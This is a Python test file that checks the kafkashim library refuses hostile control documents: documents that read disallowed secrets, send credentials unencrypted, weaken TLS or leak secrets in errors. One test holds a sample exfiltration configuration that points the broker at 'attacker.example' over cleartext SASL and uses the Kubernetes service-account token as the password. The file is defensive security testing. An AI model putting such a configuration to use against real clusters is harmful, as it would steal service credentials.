"""What a hostile control-document writer cannot make a client do (issue 11, findings 2, 3 and 4): read
secrets the application did not allow, send credentials in clear text, weaken TLS, or see a resolved secret
quoted back in an error."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import confluent_kafka
import pytest

from kafkashim.config import split_config
from kafkashim.control.document import ClusterProfile, parse_document, redact_text
from kafkashim.control.policy import SecurityPolicy, check_profile
from kafkashim.control.secrets import SecretResolver, backend_factory
from kafkashim.control.secrets.local import protected_paths
from kafkashim.errors import ConfigurationError, ForbiddenPropertyError, InvalidDocumentError, SecretAccessDeniedError
from tests.planes import follow, start

SERVICE_ACCOUNT_TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"


def write(path: Path, clusters: dict[str, dict[str, Any]], active: str = "a") -> str:
    path.write_text(json.dumps({"active": active, "clusters": clusters}))
    return path.as_uri()


def resolve(profile: dict[str, Any], environ: dict[str, str] | None = None, **policy: Any) -> ClusterProfile:
    text = json.dumps({"active": "a", "clusters": {"a": {"bootstrap.servers": "k:1", **profile}}})
    pol = SecurityPolicy(**policy)
    factory = backend_factory(environ or {}, pol.file_roots, pol.env_allow)
    doc, _ = SecretResolver(factory, "test", pol).resolve(parse_document(text, source="test"))
    return doc.clusters["a"]


# -------------------------------------------------------------------- finding 2: what may be read
def test_the_reported_exfiltration_document_is_refused(tmp_path: Path) -> None:
    """The review's document: a broker of the writer's choice, SASL_PLAINTEXT, PLAIN, and the Kubernetes
    service-account token as the password."""
    url = write(
        tmp_path / "control.json",
        {
            "a": {
                "bootstrap.servers": "attacker.example:9092",
                "security.protocol": "SASL_PLAINTEXT",
                "sasl.mechanisms": "PLAIN",
                "sasl.username": "x",
                "sasl.password": "${file:" + SERVICE_ACCOUNT_TOKEN + "}",
            }
        },
    )
    with pytest.raises((SecretAccessDeniedError, ForbiddenPropertyError)):
        start(url)
    # The token is refused even when the application allows /var/run/secrets and cleartext credentials.
    with pytest.raises((SecretAccessDeniedError, ForbiddenPropertyError)) as info:
        start(url, secrets_file_roots=("/var/run/secrets",), security_allow_cleartext_credentials=True)
    assert (
        "serviceaccount" not in str(info.value) or "never read" in str(info.value) or "no such file" in str(info.value)
    )


def test_the_default_file_roots_are_empty_and_the_error_names_the_setting(tmp_path: Path) -> None:
    (tmp_path / "pw").write_text("s3cret")
    with pytest.raises(SecretAccessDeniedError, match=r"outside kafkashim\.secrets\.file\.roots \(none set\)"):
        resolve({"security.protocol": "SSL", "sasl.password": "${file:" + str(tmp_path / "pw") + "}"})
    allowed = resolve(
        {"security.protocol": "SSL", "sasl.password": "${file:" + str(tmp_path / "pw") + "}"},
        file_roots=(str(tmp_path),),
    )
    assert allowed.properties["sasl.password"] == "s3cret"


def test_kafkashim_own_credential_files_are_never_readable_even_below_an_allowed_root(tmp_path: Path) -> None:
    for name in ("role-id", "secret-id", "jwt", "consul-token"):
        (tmp_path / name).write_text(f"{name}-value")
    environ = {
        "KAFKASHIM_VAULT_ROLE_ID_FILE": str(tmp_path / "role-id"),
        "KAFKASHIM_VAULT_SECRET_ID_FILE": str(tmp_path / "secret-id"),
        "KAFKASHIM_VAULT_K8S_JWT_FILE": str(tmp_path / "jwt"),
        "CONSUL_HTTP_TOKEN_FILE": str(tmp_path / "consul-token"),
    }
    for name in ("role-id", "secret-id", "jwt", "consul-token"):
        with pytest.raises(SecretAccessDeniedError, match="kafkashim's own credentials") as info:
            resolve(
                {"security.protocol": "SSL", "sasl.password": "${file:" + str(tmp_path / name) + "}"},
                environ,
                file_roots=(str(tmp_path),),
            )
        assert f"{name}-value" not in str(info.value)
    protected = protected_paths({})
    assert Path("/var/run/secrets/kubernetes.io").resolve() in protected


def test_a_symlink_to_a_protected_file_is_refused(tmp_path: Path) -> None:
    (tmp_path / "jwt").write_text("token")
    root = tmp_path / "root"
    root.mkdir()
    (root / "innocent").symlink_to(tmp_path / "jwt")
    with pytest.raises(SecretAccessDeniedError, match="kafkashim's own credentials"):
        resolve(
            {"security.protocol": "SSL", "sasl.password": "${file:" + str(root / "innocent") + "}"},
            {"KAFKASHIM_VAULT_K8S_JWT_FILE": str(tmp_path / "jwt")},
            file_roots=(str(tmp_path),),
        )


def test_env_references_resolve_only_what_the_application_allows() -> None:
    environ = {"DATABASE_PASSWORD": "db-pw", "KAFKA_PASSWORD": "kafka-pw", "KAFKASHIM_VAULT_SECRET_ID": "sid"}
    profile = {"security.protocol": "SSL", "sasl.password": "${env:DATABASE_PASSWORD}"}
    with pytest.raises(SecretAccessDeniedError, match=r"add DATABASE_PASSWORD .* to kafkashim\.secrets\.env\.allow"):
        resolve(profile, environ)
    with pytest.raises(SecretAccessDeniedError, match=r"kafkashim\.secrets\.env\.allow is KAFKA_\*"):
        resolve(profile, environ, env_allow=("KAFKA_*",))
    ok = resolve({**profile, "sasl.password": "${env:KAFKA_PASSWORD}"}, environ, env_allow=("KAFKA_*",))
    assert ok.properties["sasl.password"] == "kafka-pw"
    with pytest.raises(SecretAccessDeniedError, match="kafkashim's own store credentials"):
        resolve({**profile, "sasl.password": "${env:KAFKASHIM_VAULT_SECRET_ID}"}, environ, env_allow=("*",))


def test_the_allowlists_are_application_settings() -> None:
    settings, _ = split_config(
        {"kafkashim.source": "file:///c.json", "kafkashim.secrets.env.allow": "KAFKA_*, SR_USER"}, {}
    )
    assert settings.secrets_env_allow == ("KAFKA_*", "SR_USER") and settings.secrets_file_roots == ()
    with pytest.raises(ConfigurationError, match=r"kafkashim\.secrets\.env\.allow must list"):
        split_config({"kafkashim.source": "file:///c.json", "kafkashim.secrets.env.allow": "A=B"}, {})


# ------------------------------------------------------------------------ finding 2: cleartext
@pytest.mark.parametrize(
    ("profile", "key"),
    [
        ({"security.protocol": "SASL_PLAINTEXT", "sasl.mechanisms": "PLAIN", "sasl.username": "u"}, "sasl.password"),
        ({"sasl.password": "p"}, "sasl.password"),  # PLAINTEXT by default
        ({"security.protocol": "PLAINTEXT", "sasl.oauthbearer.client.secret": "s"}, "sasl.oauthbearer.client.secret"),
        (
            {"schema.registry.url": "http://sr:8081", "schema.registry.basic.auth.user.info": "k:s"},
            "schema.registry.basic.auth.user.info",
        ),
    ],
)
def test_credentials_over_a_cleartext_transport_need_the_application_opt_in(profile: dict[str, Any], key: str) -> None:
    if profile.get("security.protocol") == "SASL_PLAINTEXT":
        profile = {**profile, "sasl.password": "p"}
    with pytest.raises(ForbiddenPropertyError, match=r"kafkashim\.security\.allow\.cleartext\.credentials=true") as i:
        check_profile("test", "a", {"bootstrap.servers": "k:1", **profile}, SecurityPolicy())
    assert i.value.path == f"clusters.a.{key}"
    check_profile(
        "test", "a", {"bootstrap.servers": "k:1", **profile}, SecurityPolicy(allow_cleartext_credentials=True)
    )


def test_credentials_over_tls_and_plain_clusters_without_credentials_need_no_opt_in() -> None:
    check_profile("t", "a", {"bootstrap.servers": "k:1"}, SecurityPolicy())
    check_profile(
        "t",
        "a",
        {"security.protocol": "SASL_SSL", "sasl.mechanisms": "PLAIN", "sasl.username": "u", "sasl.password": "p"},
        SecurityPolicy(),
    )


# --------------------------------------------------------------------------- finding 3: TLS
@pytest.mark.parametrize("protocol", ["PLAINTEXT", "SASL_PLAINTEXT", None])
def test_a_document_cannot_go_below_the_application_minimum_protocol(protocol: str | None) -> None:
    props: dict[str, Any] = {"bootstrap.servers": "k:1"}
    if protocol:
        props["security.protocol"] = protocol
    if protocol == "SASL_PLAINTEXT":
        props.update({"sasl.mechanisms": "PLAIN", "sasl.username": "u", "sasl.password": "p"})
    policy = SecurityPolicy(min_protocol="tls", allow_cleartext_credentials=True)
    with pytest.raises(ForbiddenPropertyError, match=r"below the application's minimum.*security\.min\.protocol"):
        check_profile("t", "a", props, policy)
    check_profile("t", "a", {**props, "security.protocol": "SSL"}, policy)


def test_under_a_tls_minimum_the_schema_registry_must_be_https() -> None:
    with pytest.raises(ForbiddenPropertyError, match=r"schema\.registry\.url is not https"):
        check_profile(
            "t",
            "a",
            {"security.protocol": "SSL", "schema.registry.url": "http://sr"},
            SecurityPolicy(min_protocol="tls"),
        )


def test_a_document_chosen_ca_needs_the_application_opt_in() -> None:
    props = {"security.protocol": "SSL", "ssl.ca.pem": "-----BEGIN CERTIFICATE-----"}
    with pytest.raises(ForbiddenPropertyError, match=r"ssl\.ca\.pem chooses .*allow\.document\.ca=true"):
        check_profile("t", "a", props, SecurityPolicy())
    check_profile("t", "a", props, SecurityPolicy(allow_document_ca=True))


@pytest.mark.parametrize("mechanism", ["GSSAPI", "gssapi", None])
def test_gssapi_which_runs_kinit_needs_the_application_opt_in(mechanism: str | None) -> None:
    props: dict[str, Any] = {"security.protocol": "SASL_SSL"}
    if mechanism:
        props["sasl.mechanisms"] = mechanism
    with pytest.raises(ForbiddenPropertyError, match=r"kinit.*kafkashim\.security\.allow\.gssapi=true"):
        check_profile("t", "a", props, SecurityPolicy())
    check_profile("t", "a", props, SecurityPolicy(allow_gssapi=True))


def test_an_unknown_security_protocol_is_refused_without_quoting_it() -> None:
    with pytest.raises(InvalidDocumentError, match=r"security\.protocol is not one of") as info:
        resolve({"security.protocol": "${env:PW}"}, {"PW": "hunter2-secret"}, env_allow=("PW",))
    assert "hunter2" not in str(info.value)


def test_the_policy_is_checked_on_resolved_values_too() -> None:
    with pytest.raises(ForbiddenPropertyError, match="cleartext"):
        resolve(
            {"security.protocol": "${env:P}", "sasl.mechanisms": "PLAIN", "sasl.username": "u", "sasl.password": "p"},
            {"P": "SASL_PLAINTEXT"},
            env_allow=("P",),
        )


def test_clients_of_one_source_must_share_one_policy(tmp_path: Path) -> None:
    url = write(tmp_path / "c.json", {"a": {"bootstrap.servers": "k:1"}})
    with follow(url):
        with (
            pytest.raises(ConfigurationError, match=r"kafkashim\.security\.min\.protocol='tls' differs"),
            follow(url, security_min_protocol="tls"),
        ):
            pass
        with follow(url):  # the same policy shares the plane
            pass


def test_the_security_settings_parse_with_safe_defaults() -> None:
    settings, _ = split_config({"kafkashim.source": "file:///c.json"}, {})
    assert SecurityPolicy.from_settings(settings) == SecurityPolicy()
    settings, _ = split_config(
        {"kafkashim.source": "file:///c.json", "kafkashim.security.min.protocol": "TLS"},
        {"KAFKASHIM_SECURITY_ALLOW_CLEARTEXT_CREDENTIALS": "true"},
    )
    assert settings.security_min_protocol == "tls" and settings.security_allow_cleartext_credentials
    with pytest.raises(ConfigurationError, match="use plaintext or tls"):
        split_config({"kafkashim.source": "file:///c.json", "kafkashim.security.min.protocol": "ssl3"}, {})


# ----------------------------------------------------------------------------- finding 4: redaction
def test_redact_text_hides_every_resolved_secret_and_secret_property_value() -> None:
    profile = resolve(
        {
            "security.protocol": "SASL_SSL",
            "sasl.mechanisms": "OAUTHBEARER",
            "sasl.oauthbearer.extensions": "logicalCluster=${env:LKC},identityPoolId=pool-1",
            "sasl.oauthbearer.client.secret": "literal-client-secret",
        },
        {"LKC": "lkc-hidden-42"},
        env_allow=("LKC",),
    )
    message = (
        'Invalid value "logicalCluster=lkc-hidden-42,identityPoolId=pool-1" for configuration property '
        '"sasl.oauthbearer.extensions"; also lkc-hidden-42 and literal-client-secret'
    )
    shown = profile.redact_text(message)
    assert "lkc-hidden-42" not in shown and "literal-client-secret" not in shown
    assert "sasl.oauthbearer.extensions" in shown and "***" in shown
    assert profile.redact_text("nothing secret here") == "nothing secret here"
    assert "lkc-hidden-42" not in repr(profile)


def test_redact_text_hides_the_secret_in_librdkafka_own_construction_error() -> None:
    """The review's case: librdkafka refuses a value that came from a reference and quotes it back."""
    secret = "hunter2-from-env"
    profile = resolve(
        {"security.protocol": "SSL", "broker.address.family": "${env:PW}"}, {"PW": secret}, env_allow=("PW",)
    )
    with pytest.raises(confluent_kafka.KafkaException) as info:
        confluent_kafka.Producer(profile.client_properties())
    assert secret in str(info.value)  # what librdkafka says, unredacted
    assert secret not in profile.redact_text(str(info.value))
    assert "broker.address.family" in profile.redact_text(str(info.value))


def test_redact_text_over_several_profiles_hides_the_secrets_of_each() -> None:
    one = resolve({"security.protocol": "SSL", "sasl.password": "${env:A}"}, {"A": "first-secret"}, env_allow=("A",))
    two = resolve({"security.protocol": "SSL", "sasl.password": "${env:B}"}, {"B": "second-secret"}, env_allow=("B",))
    shown = redact_text("from first-secret to second-secret", one, two)
    assert shown == "from *** to ***"
    assert redact_text("untouched") == "untouched"
